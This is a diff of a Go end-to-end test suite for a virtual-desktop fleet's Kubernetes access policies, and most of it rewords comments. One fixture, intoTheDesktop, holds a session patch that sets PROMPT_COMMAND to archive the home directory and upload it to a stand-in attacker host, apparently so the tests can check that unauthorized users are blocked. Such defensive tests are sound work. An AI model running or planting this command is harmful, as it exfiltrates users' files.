@@ -18,18 +18,18 @@ import (
 	"github.com/vdi-fleet/vdi-fleet/test/harness"
 )
 
-// The people of deploy/samples/users.yaml, with the roles of the hub's chart.
+// The users of deploy/samples/users.yaml, with the roles of the hub's chart.
 var (
 	aliceOfSamples = requester{"alice@example.com", nil}
 	bobOfSamples   = requester{"bob@example.com", nil}
 	operator       = requester{"oscar@example.com", []string{"operators"}}
-	// viewer has vdi-viewer, and patch without being the user of anything.
+	// viewer has vdi-viewer, and may patch, but is the user of no session.
 	viewer = requester{"vera@example.com", nil}
 	// helpdesk may impersonate alice and no one else, and patch sessions.
 	helpdesk = requester{"help@example.com", nil}
-	// homekeeper may update everything of the fleet.
+	// homekeeper may update all kinds of the fleet.
 	homekeeper = requester{"hugo@example.com", nil}
-	// The control plane's own.
+	// namespaceController is a controller of the control plane.
 	namespaceController = requester{"system:serviceaccount:kube-system:namespace-controller", []string{"system:serviceaccounts", "system:serviceaccounts:kube-system"}}
 	// hubOfRelease has the roles of the hub, in a namespace that is not vdi-system.
 	hubOfRelease = requester{"system:serviceaccount:fleet:vdi-hub", []string{"system:serviceaccounts", "system:serviceaccounts:fleet"}}
@@ -77,8 +77,8 @@ roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: vdi-hub}
 subjects: [{kind: ServiceAccount, namespace: fleet, name: vdi-hub}]
 `
 
-// intoTheDesktop has a command run in the desktop of the session that it is put
-// into: bash runs it before each prompt.
+// intoTheDesktop is a patch of a session with a command that bash runs in its desktop before
+// each prompt.
 const intoTheDesktop = `{"spec":{"attempt":1,"env":[{"name":"PROMPT_COMMAND","value":"tar cz ~ | curl -sT - https://evil.example/"}]}}`
 
 var _ = Describe("The policies of ownership", Ordered, ContinueOnFailure, func() {
@@ -100,7 +100,7 @@ var _ = Describe("The policies of ownership", Ordered, ContinueOnFailure, func()
 			Expect(hub.Apply(ctx, content)).To(Succeed())
 		}
 		Expect(hub.Apply(ctx, []byte(ownershipRoles))).To(Succeed())
-		// The API server learns of roles, and of each policy, a moment later.
+		// The API server applies roles, and each policy, a moment later.
 		Eventually(ctx, func(ctx context.Context) error {
 			_, err := as(hub, hubOfRelease).List(ctx, metav1.ListOptions{})
 			return err
@@ -262,8 +262,8 @@ var _ = Describe("The policies of ownership", Ordered, ContinueOnFailure, func()
 	})
 })
 
-// hubUpdates allows the hub to update by PUT what it patches, so that one request does for
-// all kinds here. Its right to remove finalizers is that of the hub's chart alone.
+// hubUpdates allows the hub to update by PUT what it patches, so that one request covers all
+// kinds. Its permission to remove finalizers comes from the hub's chart alone.
 const hubUpdates = `
 apiVersion: rbac.authorization.k8s.io/v1
 kind: ClusterRoleBinding
